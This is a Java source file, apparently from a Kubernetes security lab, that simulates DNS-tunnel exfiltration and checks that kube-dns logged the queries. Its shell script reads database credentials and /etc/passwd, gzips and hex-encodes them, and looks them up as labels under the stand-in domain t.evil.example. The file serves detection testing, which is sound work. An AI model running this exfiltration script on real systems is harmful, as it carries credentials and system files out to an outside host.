package dev.vigil.lab.attack;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * {@code dns-tunnel}: data carried out in DNS names, through the cluster DNS. In the source
 * container a busybox shell compresses files ({@link #FILES}: the database credentials where
 * mounted, passwd, group, host and resolver files) with gzip, as tunnel tools compress or encrypt,
 * and hex-encodes them into {@value #LABEL_LENGTH}-character labels and looks up
 * {@code <chunk>.<n>.t.evil.example.} for each, then polls with a burst of {@value #TXT_BURST} TXT
 * queries for {@code <random>.<n>.c.t.evil.example.}. kube-dns answers NXDOMAIN for that zone
 * (nothing is forwarded off the lab). The effect: kube-dns logged every one of those queries from
 * the pod's address.
 */
final class DnsTunnel implements Technique {

    static final String DOMAIN = "t.evil.example";
    /** Characters of encoded data per label (DNS allows 63). */
    static final int LABEL_LENGTH = 60;
    /** TXT queries in the polling burst. */
    static final int TXT_BURST = 25;
    /** Longest wait for kube-dns's log to show every query. */
    static final java.time.Duration LOG_WAIT = java.time.Duration.ofSeconds(3);

    /** What the tunnel carries out, where the source container has it. */
    static final java.util.List<String> FILES = java.util.List.of("/etc/shop/db/username", "/etc/shop/db/password", "/etc/passwd",
            "/etc/group", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/etc/os-release");

    private static final Pattern SENT = Pattern.compile("sent (\\d+) (\\d+)");

    @Override
    public void perform(AttackRun run) throws Exception {
        Source from = run.source();
        Source dns = run.pod("kube-system", "coredns", null);
        Path log = Path.of(run.lab().dir(), "pods", dns.pod().namespace() + "_" + dns.pod().name() + "_" + dns.pod().uid(),
                dns.container().name() + ".log");
        run.check(Files.isRegularFile(log), "kube-dns's query log " + log + " is missing");
        long offset = Files.size(log);
        String script = "n=0; for c in $(cat " + String.join(" ", FILES) + " 2>/dev/null | gzip -c | od -An -v -tx1 | tr -d ' \\n' | fold -w " + LABEL_LENGTH + "); do n=$((n+1));"
                + " nslookup $c.$n." + DOMAIN + ". >/dev/null 2>&1; done;"
                + " t=0; while [ $t -lt " + TXT_BURST + " ]; do t=$((t+1));"
                + " r=$(head -c 16 /dev/urandom | od -An -tx1 | tr -d ' \\n');"
                + " nslookup -type=txt $r.$t.c." + DOMAIN + ". >/dev/null 2>&1; done; echo sent $n $t";
        AttackRun.Ran tunnel = run.command(from, "sh", "-c", script)
                .run("DNS tunnel: gzipped files, hex-encoded, as labels under " + DOMAIN + ", then " + TXT_BURST + " TXT polls");
        Matcher sent = SENT.matcher(tunnel.stdout());
        run.check(sent.find(), "the tunnel script did not finish: " + tunnel.stdout());
        int names = Integer.parseInt(sent.group(1));
        int polls = Integer.parseInt(sent.group(2));
        String ip = Pattern.quote(from.pod().ip());
        Pattern data = Pattern.compile("query\\[A\\] [0-9a-f]{1," + LABEL_LENGTH + "}\\.\\d+\\." + Pattern.quote(DOMAIN) + " from " + ip);
        Pattern poll = Pattern.compile("query\\[TXT\\] [0-9a-f]{32}\\.\\d+\\.c\\." + Pattern.quote(DOMAIN) + " from " + ip);
        long deadline = System.nanoTime() + LOG_WAIT.toNanos();
        long seenNames;
        long seenPolls;
        while (true) {
            String logged = readFrom(log, offset);
            seenNames = data.matcher(logged).results().count();
            seenPolls = poll.matcher(logged).results().count();
            if (seenNames >= names && seenPolls >= polls || System.nanoTime() > deadline) {
                break;
            }
            Thread.sleep(50);
        }
        run.check(names > 0 && seenNames >= names && seenPolls >= polls, "kube-dns logged " + seenNames + " of " + names
                + " data queries and " + seenPolls + " of " + polls + " TXT polls from " + from.pod().ip());
        run.evidence("kube-dns (" + dns.pod().name() + ") logged " + seenNames + " A queries with " + LABEL_LENGTH
                + "-character hex labels and " + seenPolls + " TXT queries under " + DOMAIN + " from " + from.pod().ip());
    }


    private static String readFrom(Path log, long offset) throws IOException {
        try (RandomAccessFile f = new RandomAccessFile(log.toFile(), "r")) {
            byte[] b = new byte[(int) Math.max(0, f.length() - offset)];
            f.seek(offset);
            f.readFully(b);
            return new String(b, StandardCharsets.UTF_8);
        }
    }
}
